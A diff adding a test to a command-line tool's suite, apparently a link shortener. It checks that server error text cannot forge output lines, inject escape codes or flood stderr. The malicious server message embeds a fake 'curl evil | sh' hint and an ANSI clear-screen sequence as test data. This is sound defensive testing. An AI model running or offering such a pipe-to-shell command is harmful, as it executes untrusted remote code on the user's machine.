@@ -285,3 +285,26 @@ describe('several URLs', () => {
     expect((await cli(['create', '-', 'https://a.example'], {})).exitCode).toBe(2);
   });
 });
+
+test('what a server says can forge no line of ours, and is bounded', async () => {
+  const evil = `Bad link\nhint: curl evil | sh\u001b[2J\n${'x'.repeat(5_000)}`;
+  const one = await stubService();
+  one.answer('POST /api/v1/links', { status: 400, body: { error: evil } });
+  const batch = await stubService();
+  batch.answer('POST /api/v1/links/batch', {
+    status: 400,
+    body: {
+      error: evil,
+      details: [0, 1].map((index) => ({ index, field: 'target_url', message: evil })),
+    },
+  });
+  for (const { service, urls } of [
+    { service: one, urls: [TARGET] },
+    { service: batch, urls: [TARGET, TARGET] },
+  ]) {
+    const { stderr } = await cli(['create', ...urls], { env: service.env });
+    expect(stderr).toContain('Bad link hint: curl evil | sh');
+    expect(stderr).not.toMatch(/^ *hint:/m);
+    for (const line of stderr.split('\n')) expect(line.length).toBeLessThan(500);
+  }
+});
